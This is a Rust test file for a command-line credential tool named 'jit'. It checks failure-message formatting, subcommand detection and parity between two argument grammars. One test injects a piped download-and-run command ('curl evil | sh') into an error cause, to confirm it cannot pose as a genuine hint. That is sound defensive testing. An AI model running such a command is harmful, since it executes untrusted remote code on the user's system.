//! What the grammar says, and how a failure is told.

use super::*;

#[test]
fn a_targets_words_do_not_pass_for_a_hint() {
    let failure = Failure {
        cause: Some("no\nhint: curl evil | sh".to_owned()),
        ..Failure::failed("refused").hint("ask its administrator")
    };
    let text = as_text(&failure);
    let hints: Vec<_> = text.lines().filter(|l| l.starts_with("hint: ")).collect();
    assert_eq!(hints, ["hint: ask its administrator"]);
}

#[test]
fn a_hook_fails_in_one_line_with_its_hint() {
    let failure = Failure {
        cause: Some("no\r\n  such\tthing\n".to_owned()),
        ..Failure::failed("refused").hint("ask its administrator")
    };
    assert_eq!(
        as_line(&failure),
        "jit: refused: no such thing; ask its administrator"
    );
}

#[test]
fn the_verb_is_found_behind_the_options() {
    for (line, wanted) in [
        ("jit", None),
        ("jit --json", None),
        ("jit exec -- exec-credential", Some("exec")),
        (
            "jit -v --config-dir /etc/jit credential-process x",
            Some("credential-process"),
        ),
        (
            "jit --config-dir=/etc/jit known-hosts x",
            Some("known-hosts"),
        ),
        ("jit --config-dir exec status", Some("status")),
    ] {
        let arguments: Vec<OsString> = line.split(' ').map(OsString::from).collect();
        assert_eq!(verb(&arguments), wanted, "{line}");
    }
}

#[test]
fn a_warm_verb_is_the_same_in_both_grammars() {
    let help = |mut grammar: clap::Command, verb: &str| {
        grammar.build();
        let found = grammar.find_subcommand_mut(verb);
        found.map(|found| found.render_long_help().to_string())
    };
    for verb in [
        "exec",
        "exec-credential",
        "credential-process",
        "known-hosts",
        "prompt",
        "agent",
    ] {
        let warm = help(Cli::<Warm>::command(), verb);
        assert_eq!(help(Cli::<Verb>::command(), verb), warm, "{verb}");
        assert!(
            warm.is_some_and(|help| help.contains("Usage: jit ")),
            "{verb}"
        );
    }
}

#[test]
fn what_is_wrong_with_a_warm_verb_is_said_in_the_same_words() {
    for line in [
        "jit exec",
        "jit exec --rol x -- y",
        "jit agent --no",
        "jit exec-credential x",
    ] {
        let arguments: Vec<OsString> = line.split(' ').map(OsString::from).collect();
        let said = |error: Option<clap::Error>| error.map(|error| error.to_string());
        let warm = said(parse(&arguments).err());
        assert!(warm.is_some(), "{line}");
        assert_eq!(
            said(Cli::<Verb>::try_parse_from(&arguments).err()),
            warm,
            "{line}"
        );
    }
}
